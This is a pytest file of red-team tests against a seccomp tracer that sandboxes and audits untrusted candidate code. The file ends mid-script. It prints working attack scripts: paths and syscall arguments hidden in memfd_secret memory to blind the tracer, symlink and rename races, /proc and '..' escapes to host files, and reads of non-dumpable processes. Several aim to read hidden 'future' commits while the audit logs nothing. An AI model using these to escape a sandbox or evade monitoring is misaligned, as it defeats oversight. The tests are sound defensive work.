"""Red-team attacks on the tracer as a confused deputy, by the attacker's book.

With pinning (seccomp_trace.c, "Pinning an open"), the tracer -- a process outside the sandbox,
root where evotree runs as root -- walks every read-open of a phase's program itself, opens the
file and hands the caller that descriptor; for O_CREAT of a missing name it makes the file
itself. It judges the caller's permission by the mode bits. Each attack below is what a
candidate's train code (arbitrary code in the phase's sandbox) would try to make the tracer do
for it what the kernel would refuse it: read a file of the host or one of the box it may not
read, get a writable descriptor from a read-open, make a file where or as it could not, wear the
tracer out, or tell an honest program something the kernel would not. Each runs a Python script
in the real sandbox under the compiled tracer; where the kernel's own answer is the point, a
control runs the same script with pinning off (``EVOTREE_TRACE_PIN=off``: the kernel opens).

An attack that works is a strict xfail asserting the safe outcome (its reason says how it
works); one that is stopped is a passing test asserting it is stopped.
"""

from __future__ import annotations

import os
import stat
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from test_redteam_trace_attacks import _SWAP
from test_redteam_gym_trace import SECRET, _flagged, _safe, _task_repo, _traced

from evotree.harness import sandbox
from evotree.harness.audit.trace import TRACE_FILE, git_identities
from evotree.harness.audit.trajectories import TrajectoryAudit, audit_trajectories
from evotree.harness.sandbox import finish_trace, wrap
from evotree.harness.sandbox_launch import accounted, sandbox_env
from evotree.harness.sandbox_spec import SandboxSpec

#: a uid and gid the phase does not have (it runs as uid 0 without capabilities, or as the user)
OTHER = 4321


@pytest.fixture
def seccomp(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "TRACER", "seccomp")
    monkeypatch.delenv("EVOTREE_TRACE_PIN", raising=False)
    if not (sandbox.check_sandbox().ok and sandbox._seccomp_works()):
        pytest.skip("needs bubblewrap and the compiled seccomp tracer (a C compiler)")
    if not git_identities():
        pytest.skip("no git on this machine")


@pytest.fixture
def as_root(seccomp: None) -> None:
    if os.geteuid() != 0:
        pytest.skip("the attack needs files of another owner (made as root), as on CI")


def _run(
    tmp_path: Path,
    script: str,
    setup: Callable[[Path], None] | None = None,
    *,
    pin: str = "",
    timeout: float = 120,
) -> tuple[subprocess.CompletedProcess, TrajectoryAudit]:
    """Run ``python3 t.py`` (``script``) in the sandbox over a task repository, traced; audit
    the trace. ``setup(work)``: files made outside the box before it starts (as the test's user);
    ``pin``: EVOTREE_TRACE_PIN for the tracer ("off": the kernel opens, the control)."""
    work = tmp_path / "work"
    base = subprocess.run(
        ["git", "-C", str(_task_root(work)), "rev-parse", "HEAD"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()
    (work / "t.py").write_text(script)
    if setup:
        setup(work)
    spec = SandboxSpec(cwd=work, read_write=(work,), trace=tmp_path / "raw.trace")
    env = sandbox_env(dict(os.environ))
    if pin:
        env["EVOTREE_TRACE_PIN"] = pin
    proc = subprocess.run(
        accounted(wrap(spec, ["python3", "t.py"])),
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    finish_trace(spec, evidence)
    return proc, audit_trajectories([evidence / TRACE_FILE], repo=work, base=base)


def _task_root(work: Path) -> Path:
    _task_repo(work)
    return work


def _lines(proc: subprocess.CompletedProcess) -> dict[str, str]:
    """The script's ``KEY value`` lines."""
    out = {}
    for line in proc.stdout.splitlines():
        key, _, value = line.partition(" ")
        out[key] = value
    return out


#: opens PATHS (one per argument line of the script) and prints ``name OK <bytes>`` or
#: ``name ERR <errno>``
_OPENS = """\
import errno, os
def attempt(name, path, flags=os.O_RDONLY, *args):
    try:
        fd = os.open(path, flags, *args)
    except OSError as exc:
        print(name, "ERR", errno.errorcode.get(exc.errno, exc.errno))
        return None
    try:
        data = os.pread(fd, 200, 0) if not flags & os.O_DIRECTORY else b"<dir>"
    except OSError as exc:
        data = ("<" + errno.errorcode.get(exc.errno, str(exc.errno)) + ">").encode()
    print(name, "OK", data[:200])
    return fd
"""


def _differs(pinned: dict[str, str], kernel: dict[str, str]) -> dict[str, tuple[str, str]]:
    """The lines the pinned run and the kernel's (pinning off) answered differently."""
    keys = sorted(set(pinned) | set(kernel))
    return {
        k: (pinned.get(k, "-"), kernel.get(k, "-")) for k in keys if pinned.get(k) != kernel.get(k)
    }


# ------------------------------------------- a path the tracer cannot read (most serious)

#: every open's path lives in memfd_secret(2) memory: the caller's own accesses (the kernel's
#: copy of the path, in the caller) read it, but no other process can (GUP refuses secret
#: memory: the tracer's process_vm_readv fails). The future branch's objects are listed and read
#: by hand with zlib, knowing no hash
_SECRET_MEMORY = """\
import ctypes, os, sys, zlib
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                      ctypes.c_long]
secret = libc.syscall(447, 0)  # memfd_secret
if secret < 0:
    print("no-memfd-secret", ctypes.get_errno())
    sys.exit(0)
os.ftruncate(secret, 4096)
page = libc.mmap(None, 4096, 3, 1, secret, 0)  # PROT_READ|PROT_WRITE, MAP_SHARED

def OPEN(path, flags=os.O_RDONLY):
    ctypes.memmove(page, path.encode() + b"\\0", len(path) + 1)
    fd = libc.open(ctypes.c_void_p(page), flags)
    if fd < 0:
        raise OSError(ctypes.get_errno(), path)
    return fd

store = "." + "git/objects"
for xx in os.listdir(OPEN(store, os.O_RDONLY | os.O_DIRECTORY)):
    if len(xx) != 2:
        continue
    for name in os.listdir(OPEN(store + "/" + xx, os.O_RDONLY | os.O_DIRECTORY)):
        text = zlib.decompress(os.read(OPEN(store + "/" + xx + "/" + name), 1 << 20))
        if b"SECRET" in text:
            print(text.decode("latin1"))
"""


@pytest.mark.heavy
def test_a_path_the_tracer_cannot_read_is_no_blind_open(tmp_path: Path, seccomp: None) -> None:
    """Stopped since 6e074ee/6983965 (an argument the tracer cannot read in full is answered EFAULT
    with a finding row). How it worked against ff8b60f: a path in memfd_secret memory: the
    tracer's process_vm_readv of it fails (no other process may read secret memory),
    remote_string returns 0 bytes and open_row returns without a row or an answer: the open goes
    on (CONTINUE) unjudged and unpinned, the kernel reads the path in the caller and opens the
    task's object store; the future commit is read by hand with zlib and the audit passes (no
    row at all)."""
    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _SECRET_MEMORY})
    if "no-memfd-secret" in proc.stdout:
        pytest.skip("memfd_secret is not available on this kernel")
    assert proc.returncode == 0 or "Errno" in proc.stderr, proc.stderr[-2000:]
    _safe(proc, audit)


#: the same with only the path's tail in secret memory: "/proc/self" ends an ordinary page, and
#: "/cwd/.git/objects/..." starts the secret page mapped right after it. The tracer reads up to
#: the page it cannot read and takes "/proc/self" for the whole path (a /proc path it cannot walk
#: from outside: no row, the open goes on); the kernel, in the caller, reads all of it
_SECRET_TAIL = (
    _SECRET_MEMORY.replace(
        "page = libc.mmap(None, 4096, 3, 1, secret, 0)  # PROT_READ|PROT_WRITE, MAP_SHARED\n",
        "two = libc.mmap(None, 8192, 3, 0x22, -1, 0)  # MAP_PRIVATE|MAP_ANONYMOUS\n"
        "page = libc.mmap(two + 4096, 4096, 3, 0x11, secret, 0)  # MAP_SHARED|MAP_FIXED\n"
        "head = b'/proc/self'\n"
        "ctypes.memmove(two + 4096 - len(head), head, len(head))\n",
    )
    .replace(
        "fd = libc.open(ctypes.c_void_p(page), flags)",
        "fd = libc.open(ctypes.c_void_p(two + 4096 - len(head)), flags)",
    )
    .replace(
        "ctypes.memmove(page, path.encode()",
        "path = '/cwd/' + path\n    ctypes.memmove(page, path.encode()",
    )
)


@pytest.mark.heavy
def test_a_path_whose_tail_the_tracer_cannot_read_is_no_blind_open(
    tmp_path: Path, seccomp: None
) -> None:
    """Stopped since 6e074ee/6983965 (an argument the tracer cannot read in full is answered EFAULT
    with a finding row). How it worked against ff8b60f: remote_string stops at the first page it
    cannot read and returns what it read as the whole path: '/proc/self' (which the tracer
    cannot walk from outside the sandbox's PID namespace: no row, CONTINUE), while the kernel
    reads '/proc/self/cwd/.git/objects/..' in the caller: the future is read by hand with no
    row."""
    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _SECRET_TAIL})
    if "no-memfd-secret" in proc.stdout:
        pytest.skip("memfd_secret is not available on this kernel")
    _safe(proc, audit)


#: the access-time link swap (test_redteam_trace_attacks.py's, which pinning stopped), each open
#: made by openat2 whose ``struct open_how`` lives in secret memory: the tracer cannot read the
#: flags (known_flags 0), so it does not pin; it walks the harmless link, and the kernel walks
#: the swapped one
_SWAP_HOW_SECRET = _SWAP.replace(
    "import os, threading, zlib\n",
    """import ctypes, os, sys, threading, zlib
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                      ctypes.c_long]
secret = libc.syscall(447, 0)  # memfd_secret
if secret < 0:
    print("no-memfd-secret", ctypes.get_errno())
    sys.exit(0)
os.ftruncate(secret, 4096)
page = libc.mmap(None, 4096, 3, 1, secret, 0)

def OPEN(path, flags):
    how = (ctypes.c_uint64 * 3).from_address(page)
    how[0], how[1], how[2] = flags, 0, 0
    fd = libc.syscall(437, -100, path.encode(), ctypes.c_void_p(page), 24)
    if fd < 0:
        raise OSError(ctypes.get_errno(), path)
    return fd
""",
    1,
).replace("os.open(link, flags)", "OPEN(link, flags)")


@pytest.mark.heavy
def test_openat2_flags_the_tracer_cannot_read_still_pin(tmp_path: Path, seccomp: None) -> None:
    """Stopped since 6e074ee/6983965 (an argument the tracer cannot read in full is answered EFAULT
    with a finding row). How it worked against ff8b60f: openat2 with its open_how in
    memfd_secret memory: the tracer's process_vm_readv of the flags fails, so the open is not
    pinnable (known_flags 0) and goes on (CONTINUE) after the tracer's walk of the harmless
    link; the link is swapped for the object once its access time shows that walk, and the
    kernel's own walk opens the object: the pinning that stopped the swap is switched off by the
    caller."""
    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _SWAP_HOW_SECRET})
    if "no-memfd-secret" in proc.stdout:
        pytest.skip("memfd_secret is not available on this kernel")
    _safe(proc, audit)


#: the machine's git exec'd with its path and every word of its argv in secret memory (execve
#: by syscall): the tracer cannot read them at the call
_EXEC_SECRET = """\
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                      ctypes.c_long]
secret = libc.syscall(447, 0)
if secret < 0:
    print("no-memfd-secret")
    sys.exit(0)
os.ftruncate(secret, 8192)
page = libc.mmap(None, 8192, 3, 1, secret, 0)
words = [b"/usr/bin/git", b"log", b"-p", b"future"]
off = 64
ptrs = (ctypes.c_uint64 * (len(words) + 1)).from_address(page)
for k, w in enumerate(words):
    ctypes.memmove(page + off, w + b"\\0", len(w) + 1)
    ptrs[k] = page + off
    off += len(w) + 1
ptrs[len(words)] = 0
env = (ctypes.c_uint64 * 1)(0)
pid = os.fork()
if pid == 0:
    libc.syscall(59, ctypes.c_void_p(ptrs[0]), ctypes.c_void_p(page), env)
    os._exit(99)
os.waitpid(pid, 0)
"""


@pytest.mark.heavy
def test_an_exec_the_tracer_cannot_read_is_still_judged(tmp_path: Path, seccomp: None) -> None:
    """Stopped: an exec row's argv is checked after the exec, as the kernel copied it into the
    new program (its /proc cmdline), so git log -p future is judged and flagged."""
    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _EXEC_SECRET})
    if "no-memfd-secret" in proc.stdout:
        pytest.skip("memfd_secret is not available on this kernel")
    assert SECRET in proc.stdout, proc.stderr[-2000:]
    assert _flagged(audit)


# --------------------------------------------- another process's /proc entries, by ptrace rule

#: a child of the phase makes itself non-dumpable (PR_SET_DUMPABLE 0: what ssh-agent, gpg-agent
#: and credential helpers do so that processes of the same user cannot read them): the kernel
#: refuses its environ, maps and mem to every process without CAP_SYS_PTRACE (ptrace's READ
#: check, made at open with the opener's credentials). Opened directly, and through a link of
#: the phase's own to its /proc folder
_NON_DUMPABLE = (
    _OPENS
    + """\
import ctypes, time
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
    os.environ.clear()
    os.write(w, b"x")
    time.sleep(20)
    os._exit(0)
os.read(r, 1)
os.symlink("/proc/%d" % pid, "/tmp/pc")
for what in ("environ", "maps", "auxv"):
    attempt("direct-" + what, "/proc/%d/%s" % (pid, what))
    attempt("link-" + what, "/tmp/pc/" + what)
fd = attempt("link-mem", "/tmp/pc/mem")
if fd is not None:
    start = int(open("/proc/self/maps").readline().split("-")[0], 16)
    print("memread", os.pread(fd, 4, start))
os.kill(pid, 9)
"""
)


@pytest.mark.heavy
def test_a_non_dumpable_process_is_refused_by_the_kernel(tmp_path: Path, seccomp: None) -> None:
    """The control: with pinning off, the kernel refuses every one of those opens."""
    proc, _ = _run(tmp_path, _NON_DUMPABLE, pin="off")
    out = _lines(proc)
    assert out["direct-environ"] == "ERR EACCES", proc.stdout + proc.stderr[-2000:]
    assert all(out[k] == "ERR EACCES" for k in out if k.startswith(("direct-", "link-"))), out


@pytest.mark.heavy
def test_a_non_dumpable_process_is_not_read_through_the_tracer(
    tmp_path: Path, seccomp: None
) -> None:
    """Stopped (worked against ff8b60f's tracer, which opened /proc/PID/environ, maps, auxv and
    mem for the caller with CAP_SYS_PTRACE, checking only the mode bits): a /proc file is opened
    by the kernel for the caller, and one reached through a link is a finding."""
    proc, audit = _run(tmp_path, _NON_DUMPABLE)
    out = _lines(proc)
    got = {k: v for k, v in out.items() if k.startswith(("direct-", "link-")) and v != "ERR EACCES"}
    assert not got or _flagged(audit), got


# ------------------------------------------------------ files of the host, outside the box

#: a file beside the task's work tree (not bound): named through a link of the phase's own
#: (absolute: the tracer's root is the host's), ".." climbing past the root, /proc/self/root,
#: /proc/1/root and /proc/1/cwd, and a folder of the box renamed while the walk goes on
_HOST = (
    _OPENS
    + """\
import threading
host = os.path.dirname(os.getcwd()) + "/host.txt"
os.symlink(host, "/tmp/abs")
attempt("abs-link", "/tmp/abs")
os.symlink("../" * 40 + host.lstrip("/"), "/tmp/dots")
attempt("dots-link", "/tmp/dots")
os.makedirs("/tmp/deep/a/b")
os.symlink("../../../../../../../../.." + os.path.dirname(host), "/tmp/deep/a/b/up")
attempt("up-link", "/tmp/deep/a/b/up/host.txt")
attempt("proc-self-root", "/proc/self/root" + host)
attempt("proc-1-root", "/proc/1/root" + host)
attempt("proc-1-cwd", "/proc/1/cwd/../host.txt")
attempt("dev-fd-cwd", "/dev/fd/../../proc/self/root" + host)
os.makedirs("/tmp/x/y")
stop = [False]
def flip():
    while not stop[0]:
        try:
            os.rename("/tmp/x/y", "/tmp/y")
            os.rename("/tmp/y", "/tmp/x/y")
        except OSError:
            pass
threading.Thread(target=flip, daemon=True).start()
got = 0
for _ in range(2000):
    try:
        fd = os.open("/tmp/x/y/" + "../" * 12 + host.lstrip("/"), os.O_RDONLY)
        print("renamed OK", os.read(fd, 100))
        got += 1
    except OSError:
        pass
stop[0] = True
"""
)


@pytest.mark.heavy
def test_a_host_file_is_never_read_through_the_tracer(tmp_path: Path, seccomp: None) -> None:
    def setup(work: Path) -> None:
        (work.parent / "host.txt").write_text("HOST_SECRET_7\n")

    proc, _ = _run(tmp_path, _HOST, setup)
    assert "HOST_SECRET_7" not in proc.stdout, proc.stdout
    out = _lines(proc)
    assert out["abs-link"].startswith("ERR") and out["proc-1-root"].startswith("ERR"), out


# --------------------------------------------------- files of the box the caller may not read


def _other_owner(work: Path) -> None:
    """Files of another uid: 0600; 0644 in a folder 0700; 0644 with an ACL denying uid 0 and
    the test's uid; 0444 (opened to truncate or write)."""
    (work / "other600").write_text("SECRET_600\n")
    os.chmod(work / "other600", 0o600)
    (work / "nox").mkdir()
    (work / "nox" / "f.txt").write_text("SECRET_NOX\n")
    os.chmod(work / "nox", 0o700)
    (work / "acl.txt").write_text("SECRET_ACL\n")
    entries = [(1, 6, 0xFFFFFFFF), (2, 0, 0), (4, 4, 0xFFFFFFFF), (0x10, 4, 0xFFFFFFFF)]
    entries.append((0x20, 4, 0xFFFFFFFF))  # user::rw user:0:--- group::r mask::r other::r
    acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in entries)
    os.setxattr(work / "acl.txt", "system.posix_acl_access", acl)
    (work / "ro444").write_text("KEEP_444\n")
    os.chmod(work / "ro444", 0o444)
    for name in ("other600", "nox", "nox/f.txt", "acl.txt", "ro444"):
        os.chown(work / name, OTHER, OTHER)


_OTHER_OWNER = (
    _OPENS
    + """\
attempt("other600", "other600")
attempt("nox", "nox/f.txt")
attempt("nox-dir", "nox", os.O_RDONLY | os.O_DIRECTORY)
attempt("acl", "acl.txt")
attempt("trunc", "ro444", os.O_RDONLY | os.O_TRUNC)
attempt("rdwr", "ro444", os.O_RDWR)
attempt("rdwr-append", "ro444", os.O_RDWR | os.O_APPEND)
p = os.open("ro444", os.O_PATH)
attempt("path-upgraded", "/proc/self/fd/%d" % p, os.O_RDWR)
attempt("path-upgraded-trunc", "/dev/fd/%d" % p, os.O_RDONLY | os.O_TRUNC)
os.symlink(os.getcwd() + "/nox", "/tmp/nox")
attempt("nox-link", "/tmp/nox/f.txt")
"""
)


@pytest.mark.heavy
def test_a_file_of_another_owner_is_refused_as_the_kernel_refuses_it(
    tmp_path: Path, as_root: None
) -> None:
    """Stopped: the serving thread walks and opens without the capabilities that pass over file
    permissions, so the kernel refuses it what it refuses the phase (a folder without x, an
    ACL), and the mode bits check the rest; nothing is read, the 0444 file keeps its bytes."""
    proc, _ = _run(tmp_path, _OTHER_OWNER, _other_owner)
    out = _lines(proc)
    assert "SECRET" not in proc.stdout, proc.stdout
    assert out and all(v == "ERR EACCES" for v in out.values()), out
    assert (tmp_path / "work" / "ro444").read_text() == "KEEP_444\n"


# ------------------------------------------------------------ a read-only bind, from inside

_READ_ONLY = (
    _OPENS
    + """\
attempt("usr-rdwr", "/usr/bin/env", os.O_RDWR)
attempt("usr-trunc", "/usr/bin/env", os.O_RDONLY | os.O_TRUNC)
attempt("usr-creat", "/usr/made_by_tracer", os.O_RDONLY | os.O_CREAT, 0o644)
attempt("usr-creat-link", "/tmp/mk", os.O_RDONLY | os.O_CREAT, 0o644) if os.symlink(
    "/usr/made_by_link", "/tmp/mk") is None else None
attempt("head-rdwr", ".git/HEAD", os.O_RDWR)
attempt("head-trunc", ".git/HEAD", os.O_RDONLY | os.O_TRUNC)
p = os.open(".git/HEAD", os.O_PATH)
attempt("head-path-upgraded", "/proc/self/fd/%d" % p, os.O_RDWR | os.O_TRUNC)
os.symlink(os.getcwd() + "/.git", "/tmp/g")
attempt("head-through-link", "/tmp/g/HEAD", os.O_RDWR | os.O_APPEND)
"""
)


@pytest.mark.heavy
def test_a_read_only_bind_gives_no_writable_descriptor(tmp_path: Path, seccomp: None) -> None:
    """Stopped: the tracer reopens through the sandbox's own mount (read-only), and makes
    files in the folder its walk reached there: EROFS, as the kernel answers."""
    proc, _ = _run(tmp_path, _READ_ONLY)
    out = _lines(proc)
    assert out and all(v in ("ERR EROFS", "ERR EACCES") for v in out.values()), out
    assert not Path("/usr/made_by_tracer").exists() and not Path("/usr/made_by_link").exists()
    assert (tmp_path / "work" / ".git" / "HEAD").read_text().startswith("ref: refs/heads/main")


# ---------------------------------------- what an honest program is told, against the kernel

#: opens an honest program makes, each answered by the kernel (pinning off) and by the tracer
#: (pinning on): the same descriptor's bytes, or the same errno
_HONEST = (
    _OPENS
    + """\
import ctypes, stat, sys
libc = ctypes.CDLL(None, use_errno=True)
os.umask(0o027)
open("f.txt", "w").write("plain\\n")
os.symlink("f.txt", "lnk")
os.symlink("missing-target", "dangling")
os.symlink("loop2", "loop1")
os.symlink("loop1", "loop2")
os.mkdir("d")
os.mkfifo("fifo")
attempt("file", "f.txt")
attempt("o-directory-on-file", "f.txt", os.O_RDONLY | os.O_DIRECTORY)
attempt("o-nofollow-on-link", "lnk", os.O_RDONLY | os.O_NOFOLLOW)
attempt("o-nofollow-below-link", "lnk/x", os.O_RDONLY | os.O_NOFOLLOW)
attempt("link", "lnk")
attempt("dangling", "dangling")
attempt("loop", "loop1")
attempt("missing", "nothere")
attempt("missing-folder", "nothere/x")
attempt("file-as-folder", "f.txt/x")
attempt("trailing-slash-file", "f.txt/")
attempt("trailing-slash-dir", "d/", os.O_RDONLY)
attempt("rdwr-dir", "d", os.O_RDWR)
attempt("excl-existing", "f.txt", os.O_RDONLY | os.O_CREAT | os.O_EXCL, 0o644)
attempt("creat-existing", "f.txt", os.O_RDONLY | os.O_CREAT, 0o644)
attempt("creat-dangling", "dangling", os.O_RDWR | os.O_CREAT, 0o644)
print("dangling-made", os.path.exists("missing-target"))
attempt("fifo-nonblock", "fifo", os.O_RDONLY | os.O_NONBLOCK)
attempt("dot-dot", "d/../f.txt")
attempt("slashes", ".//d/..//./f.txt")
attempt("proc-self-status", "/proc/self/status")
attempt("proc-self-stat", "/proc/self/stat")
attempt("proc-self-maps", "/proc/self/maps")
attempt("proc-thread-self", "/proc/thread-self/comm")
attempt("proc-meminfo", "/proc/meminfo")
attempt("proc-self-fd-dir", "/proc/self/fd", os.O_RDONLY | os.O_DIRECTORY)
attempt("etc-passwd", "/etc/passwd")
d = os.open("d", os.O_RDONLY | os.O_DIRECTORY)
open("d/in.txt", "w").write("in\\n")
fd = libc.openat(d, b"in.txt", 0)
r = os.pread(fd, 9, 0) if fd >= 0 else ""
print("dirfd-relative", "OK" if fd >= 0 else ctypes.get_errno(), r)
fd = libc.openat(d, b"../f.txt", 0)
print("dirfd-dotdot", "OK" if fd >= 0 else ctypes.get_errno())
fd = libc.openat(os.open("f.txt", os.O_RDONLY), b"x", 0)
print("dirfd-is-a-file", fd, ctypes.get_errno() if fd < 0 else "")
os.rename("d", "d2")
fd = libc.openat(d, b"in.txt", 0)
print("dirfd-renamed", "OK" if fd >= 0 else ctypes.get_errno())
o = os.open("f.txt", os.O_RDONLY)
attempt("proc-self-fd", "/proc/self/fd/%d" % o)
attempt("dev-stdin-file", "/dev/fd/%d" % o)
p = os.open("f.txt", os.O_PATH)
attempt("o-path-reopened", "/proc/self/fd/%d" % p)
for name, mode in (("new644", 0o644), ("new4777", 0o4777), ("new2755", 0o2755)):
    fd = attempt("creat-" + name, name, os.O_RDONLY | os.O_CREAT, mode)
    st = os.fstat(fd)
    print("mode-" + name, oct(st.st_mode), st.st_uid, st.st_gid)
fd = attempt("creat-trunc-rdwr", "new-rw", os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
os.write(fd, b"written")
print("written", open("new-rw").read())
fd = attempt("creat-append", "new-ap", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
attempt("creat-missing-folder", "nothere/new", os.O_RDONLY | os.O_CREAT, 0o644)
attempt("creat-in-proc", "/proc/new", os.O_RDONLY | os.O_CREAT, 0o644)
import fcntl
def lowest_free():
    n = 0
    while True:
        try:
            fcntl.fcntl(n, fcntl.F_GETFD)
        except OSError:
            return n
        n += 1
free = lowest_free()
fd = libc.open(b"f.txt", 0)
print("lowest-free-number", fd == free, "no-cloexec", fcntl.fcntl(fd, fcntl.F_GETFD))
fd = libc.open(b"f.txt", os.O_CLOEXEC)
print("cloexec", fcntl.fcntl(fd, fcntl.F_GETFD))
"""
)


@pytest.mark.heavy
def test_an_honest_program_is_told_what_the_kernel_tells_it(tmp_path: Path, seccomp: None) -> None:
    """Stopped (no difference): errno values, O_DIRECTORY on a file, O_NOFOLLOW on a link,
    relative and ".." opens from a directory descriptor, a renamed one, /proc/self files Python
    reads, files made by O_CREAT (mode less the umask, setuid/setgid bits, owner), O_TRUNC,
    O_APPEND, close-on-exec."""
    pinned, _ = _run(tmp_path / "pinned", _HONEST)
    kernel, _ = _run(tmp_path / "kernel", _HONEST, pin="off")
    volatile = ("proc-self-stat", "proc-self-status", "proc-self-maps", "proc-meminfo")
    a = {k: v for k, v in _lines(pinned).items() if k not in volatile}
    b = {k: v for k, v in _lines(kernel).items() if k not in volatile}
    assert len(b) > 40, kernel.stdout + kernel.stderr[-2000:]
    assert not _differs(a, b), (_differs(a, b), pinned.stderr[-1500:])


#: openat with a descriptor number the caller does not hold, a relative name of a file of the
#: box: the kernel answers EBADF
_BAD_DIRFD = """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.openat(999, b"etc/passwd", 0)
print("bad-dirfd", fd, ctypes.get_errno() if fd < 0 else "")
"""


@pytest.mark.heavy
def test_a_bad_directory_descriptor_is_ebadf(tmp_path: Path, seccomp: None) -> None:
    """Stopped (worked against ff8b60f's tracer: no folder read for the descriptor, the name
    walked from '/' and /etc/passwd pinned where the kernel answers EBADF)."""
    kernel, _ = _run(tmp_path / "kernel", _BAD_DIRFD, pin="off")
    assert _lines(kernel)["bad-dirfd"] == "-1 9", kernel.stdout + kernel.stderr
    pinned, _ = _run(tmp_path / "pinned", _BAD_DIRFD)
    assert _lines(pinned)["bad-dirfd"] == "-1 9", pinned.stdout + pinned.stderr


#: a path longer than PATH_MAX (4,096 bytes with its NUL) whose first 4,095 bytes name a file:
#: the kernel answers ENAMETOOLONG
_LONG_PATH = (
    _OPENS
    + """\
open("f.txt", "w").write("plain\\n")
head = "./" * 2045 + "f.txt"
assert len(head) == 4095
attempt("long-path", head + "/../f.txt")
attempt("long-path-missing", head + "-not-this-one")
"""
)


@pytest.mark.heavy
def test_a_path_longer_than_path_max_is_enametoolong(tmp_path: Path, seccomp: None) -> None:
    """Stopped: the tracer's walk of the first 4,095 bytes does not answer for the kernel."""
    kernel, _ = _run(tmp_path / "kernel", _LONG_PATH, pin="off")
    assert _lines(kernel)["long-path"] == "ERR ENAMETOOLONG", kernel.stdout + kernel.stderr
    pinned, _ = _run(tmp_path / "pinned", _LONG_PATH)
    assert _differs(_lines(pinned), _lines(kernel)) == {}


#: an honest program's own files through /proc/self/cwd and /proc/self/root (the caller's own
#: links, which the tracer does not follow for it)
_SELF_LINKS = (
    _OPENS
    + """\
attempt("self-cwd", "/proc/self/cwd/t.py")
attempt("self-root", "/proc/self/root/etc/hostname")
"""
)


@pytest.mark.heavy
def test_an_honest_open_through_proc_self_cwd_is_no_finding(tmp_path: Path, seccomp: None) -> None:
    proc, audit = _run(tmp_path, _SELF_LINKS)
    assert _lines(proc)["self-cwd"].startswith("OK"), proc.stdout + proc.stderr[-2000:]
    assert not _flagged(audit), [h.rule for v in audit.verdicts for h in v.hits]


# ------------------------------------------------- files the tracer makes for the caller


def _folders(work: Path) -> None:
    """A setgid folder of another group (0o2777), a folder of another owner (0o755) and a
    sticky one (0o1777), all of uid/gid OTHER."""
    for name, mode in (("sgid", 0o2777), ("theirs", 0o755), ("sticky", 0o1777)):
        (work / name).mkdir()
        os.chown(work / name, OTHER, OTHER)
        os.chmod(work / name, mode)


#: O_CREAT of missing names where the kernel strips or refuses: a setgid folder of a group the
#: caller is not in (the file takes the group; the kernel drops S_ISGID of a mode asking for it,
#: a tracer with CAP_FSETID would not), a folder it may not write, a sticky folder, a FIFO's and
#: a device's name (existing), /dev (the box's own tmpfs)
_CREATE = (
    _OPENS
    + """\
import stat
os.umask(0)
for name, mode in (("sgid/a", 0o2755), ("sgid/b", 0o6777), ("sticky/c", 0o4755),
                   ("theirs/d", 0o644), ("/dev/e", 0o644), ("/tmp/f", 0o7777)):
    fd = attempt("creat-" + name, name, os.O_RDONLY | os.O_CREAT, mode)
    if fd is not None:
        st = os.fstat(fd)
        print("mode-" + name, oct(st.st_mode), st.st_uid, st.st_gid)
os.mkfifo("/tmp/fifo")
attempt("creat-fifo", "/tmp/fifo", os.O_RDWR | os.O_CREAT | os.O_NONBLOCK, 0o644)
attempt("creat-device", "/dev/null", os.O_RDWR | os.O_CREAT, 0o644)
os.symlink("/dev/made", "/tmp/to-dev")
attempt("creat-through-link-to-dev", "/tmp/to-dev", os.O_RDWR | os.O_CREAT, 0o600)
print("made-in-dev", oct(os.lstat("/dev/made").st_mode) if os.path.exists("/dev/made") else "-")
"""
)


@pytest.mark.heavy
def test_a_file_made_by_the_tracer_is_the_file_the_kernel_makes(
    tmp_path: Path, as_root: None
) -> None:
    """Stopped: the same answers, modes, owners and groups as the kernel's (pinning off); no
    setgid bit kept in a folder of another group, nothing made in a folder of another owner."""
    pinned, _ = _run(tmp_path / "pinned", _CREATE, _folders)
    kernel, _ = _run(tmp_path / "kernel", _CREATE, _folders, pin="off")
    a, b = _lines(pinned), _lines(kernel)
    assert b["creat-theirs/d"] == "ERR EACCES" and "mode-sgid/a" in b, kernel.stdout
    assert not _differs(a, b), (_differs(a, b), pinned.stderr[-1500:])
    made = tmp_path / "pinned" / "work" / "sgid" / "a"
    assert not made.stat().st_mode & stat.S_ISGID and made.stat().st_gid == OTHER
    assert not (tmp_path / "pinned" / "work" / "theirs" / "d").exists()


#: many threads make the same new name at once (O_CREAT, no O_EXCL): the tracer makes it with
#: O_EXCL, the losers must get the winner's file (walked again), never a second file or an
#: error; each writes its number at its own offset
_CREATE_RACE = """\
import os, threading
names = ["race%d" % k for k in range(20)]
bad = []
def make(name, k, barrier):
    barrier.wait()
    try:
        fd = os.open(name, os.O_RDWR | os.O_CREAT, 0o644)
    except OSError as exc:
        bad.append((name, k, exc.errno))
        return
    os.pwrite(fd, bytes([65 + k]), k)
    os.close(fd)
for name in names:
    barrier = threading.Barrier(16)
    threads = [threading.Thread(target=make, args=(name, k, barrier)) for k in range(16)]
    [t.start() for t in threads]
    [t.join() for t in threads]
